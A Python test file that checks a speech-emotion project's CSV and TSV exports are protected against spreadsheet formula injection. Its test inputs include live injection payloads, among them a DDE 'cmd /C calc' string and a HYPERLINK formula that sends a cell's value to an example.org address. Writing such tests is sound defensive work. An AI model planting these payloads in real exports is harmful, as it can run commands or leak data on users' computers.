"""A speaker called ``=HYPERLINK(…)`` was a formula in the CSV files that left the app."""

import csv
import io
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from ser_core.corpora import open_corpus
from ser_core.corpora.manifest import Manifest, Utterance, write_manifest
from ser_core.embeddings.export import metadata_tsv, selection_csv, vectors_tsv
from ser_core.embeddings.opening import open_space
from ser_core.embeddings.space import Space
from ser_core.geometry.table_reading import read_angle_table
from ser_core.geometry.table_writing import matrix_csv, pairs_csv
from ser_core.tables import as_it_was, csv_text, frame_csv, without_formulas
from ui.components import tables

FORMULAS = [
    '=HYPERLINK("https://example.org?x="&A1;"press")',
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "'=1+1",
    "''@x",
    "sad;=1+1",
    "a,b\n=1+1",
    "-5,+cmd",
    "-",
    "+",
]
HARMLESS = ["sad", "-3.5", "+49", "1e-5", "-1e-5", "x=1", "a-b", "'tis", "''", "", "[1,-2,3]", "-inf"[1:]]


def begins_a_formula(text: str) -> bool:
    """Tell whether any program would compute a cell of a CSV, whatever it takes for the separator."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    cells += [cell for separator in ";\t|" for cell in re.split(rf"[{separator}\r\n]", text)]
    return any(cell[:1] in tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20") and not is_number(cell) for cell in cells)


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_marked_and_reading_takes_the_mark_off(text):
    assert without_formulas(text) != text
    assert as_it_was(without_formulas(text)) == text
    assert not begins_a_formula(csv_text([[text, "b"], ["a", text]]))


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(text):
    assert without_formulas(text) == text == as_it_was(text)


def test_whatever_a_text_holds_its_mark_is_taken_off_again(random):
    signs = list("=+-@'\t;,|a1. \n")
    for _ in range(3000):
        text = "".join(random.choice(signs, size=random.integers(0, 8)))
        assert as_it_was(without_formulas(text)) == text


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
@pytest.mark.parametrize("name", ["=HYPERLINK(1)", "+SUM(A1)", "@me", "-", "'=quoted", "x;=1+1"])
def test_a_manifest_is_inert_and_comes_back_as_it_was(tiny_corpus, tmp_path, suffix, name):
    manifest = open_corpus(str(tiny_corpus))
    rows = [
        Utterance(file=row.file, speaker=f"{name}{row.speaker}", emotion=row.emotion, text=f"{name} hello")
        for row in manifest.utterances
    ]
    path = tmp_path / f"list{suffix}"
    write_manifest(Manifest("", manifest.root, tuple(rows), "none", "none", ()), path)
    assert not begins_a_formula(path.read_text(encoding="utf-8"))
    again = open_corpus(str(path))
    assert [row.speaker for row in again.utterances] == [row.speaker for row in rows]
    assert [row.text for row in again.utterances] == [row.text for row in rows]


@pytest.fixture
def space(random) -> Space:
    frame = pd.DataFrame(
        {
            "file": ["=a.wav", "+b.wav", "c.wav"],
            "speaker": FORMULAS[:3],
            "emotion": ["sad", "@x", "sad"],
            "=1+1": [1, 2, 3],
        }
    )
    return Space(frame, random.normal(size=(3, 4)).astype(np.float32))


def test_a_selection_and_a_projector_s_table_are_inert_and_open_again(space, tmp_path):
    written = {"selection.csv": selection_csv(space, [0, 1, 2]), "metadata.tsv": metadata_tsv(space)}
    (tmp_path / "vectors.tsv").write_bytes(vectors_tsv(space))
    np.save(tmp_path / "vectors.npy", space.embeddings)
    for name, content in written.items():
        assert not begins_a_formula(content.decode())
        (tmp_path / name).write_bytes(content)
        again = open_space(tmp_path / "vectors.npy", tmp_path / name)
        assert list(again.frame["file"]) == list(space.frame["file"])
        assert list(again.frame["speaker"]) == list(space.frame["speaker"])


def test_tables_of_angles_are_inert_and_read_again(tmp_path):
    labels = ["=1+1", "@b", "-c"]
    matrix = np.array([[np.nan, 60, 70], [60, np.nan, 80], [70, 80, np.nan]])
    content = matrix_csv(labels, matrix)
    assert not begins_a_formula(content)
    assert not begins_a_formula(pairs_csv(labels, matrix, np.full((3, 3, 2), 1.0)))
    assert read_angle_table(content.encode()).labels == tuple(labels)


def test_a_table_on_a_page_is_inert_as_its_button_saves_it(monkeypatch):
    drawn = []
    monkeypatch.setattr("streamlit.dataframe", lambda table, **options: drawn.append((table, options)))
    tables.show([{"=name": "@x", "value": -1.5}], column_config={"=name": "called", "value": None}, hide_index=True)
    ((table, options),) = drawn
    assert table.to_dict("records") == [{"'=name": "'@x", "value": -1.5}]
    settings = {"column_config": {"'=name": "called", "value": None}, "hide_index": True, "placeholder": "–"}
    assert options == settings
    assert not begins_a_formula(frame_csv(table))


def test_no_csv_is_written_past_the_one_writer():
    root = Path(__file__).resolve().parents[2]
    writer = root / "ser_core" / "tables" / "writing.py"
    others = [
        path for folder in ("ser_core", "ui", "pages") for path in (root / folder).rglob("*.py") if path != writer
    ]
    assert not [
        path for path in others if any(word in path.read_text(encoding="utf-8") for word in ("csv.writer", "to_csv"))
    ]
